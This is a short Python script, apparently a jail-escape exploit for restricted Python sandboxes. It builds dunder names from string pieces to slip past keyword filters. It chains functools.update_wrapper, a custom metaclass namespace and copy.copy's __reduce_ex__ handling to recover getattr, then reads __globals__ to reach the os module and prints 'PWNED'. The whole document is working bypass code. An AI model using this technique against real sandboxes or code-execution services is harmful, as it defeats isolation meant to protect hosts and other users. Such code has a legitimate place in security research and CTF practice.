import functools, copy, operator, abc
box = {}
class W:
    def __setattr__(self, k, v):
        box[k] = v
uw = functools.wraps((1).__add__).func
uw(W(), (1).__add__, ("__red" + "uce__",), ())
red = box["__red" + "uce__"]

class Ns(dict):
    def __setitem__(self, k, v):
        if k == "rx":
            k = "__red" + "uce_ex__"
        dict.__setitem__(self, k, v)
class MM(abc.ABCMeta):
    @classmethod
    def __prepare__(m, name, bases, **kw):
        return Ns()
class X(metaclass=MM):
    rx = functools.partial(operator.getitem, {4: (red, ())})   # not a descriptor: called as rx(4)
rg, _ = copy.copy(X())
G = rg(type(abc.ABC).register, "__glo" + "bals__")
print("PW" + "NED", rg, G["o" + "s"].getpid())
